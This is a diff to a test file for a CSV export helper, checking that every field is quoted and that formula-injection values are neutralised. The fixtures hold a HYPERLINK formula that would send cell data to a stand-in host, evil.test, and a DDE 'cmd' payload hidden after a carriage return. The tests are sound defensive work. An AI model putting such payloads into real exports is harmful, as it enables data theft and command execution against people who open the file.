@@ -29,10 +29,29 @@ describe('CSV exports', () => {
       reader.readAsArrayBuffer(blobs[0]!);
     });
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+    // Every field quoted (issue 22, finding 4): a lone carriage return cannot end a row.
     expect(text.split('\r\n')).toEqual([
-      '\ufeffS. No,State/Territory,Count',
-      `1,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")",3`,
-      '2,ไทย,-4',
+      '\ufeff"S. No","State/Territory","Count"',
+      `"1","'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")","3"`,
+      '"2","ไทย","-4"',
     ]);
+  });
+
+  it('quotes a field holding a lone carriage return and neutralises the line after it', async () => {
+    const blobs: Blob[] = [];
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return 'blob:csv';
+    };
+    // Issue 22, finding 4: a staff name stored before control characters were refused.
+    downloadRowsAsCsv([{ Member: "Demo Team\r=cmd|' /C calc'!A0", Action: 'Signed in' }], 'audit-log');
+    await vi.waitFor(() => expect(blobs).toHaveLength(1));
+    const bytes = await new Promise<ArrayBuffer>((resolve) => {
+      const reader = new FileReader();
+      reader.onload = () => resolve(reader.result as ArrayBuffer);
+      reader.readAsArrayBuffer(blobs[0]!);
+    });
+    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+    expect(text).toBe(`\ufeff"Member","Action"\r\n"Demo Team\r'=cmd|' /C calc'!A0","Signed in"`);
   });
 });
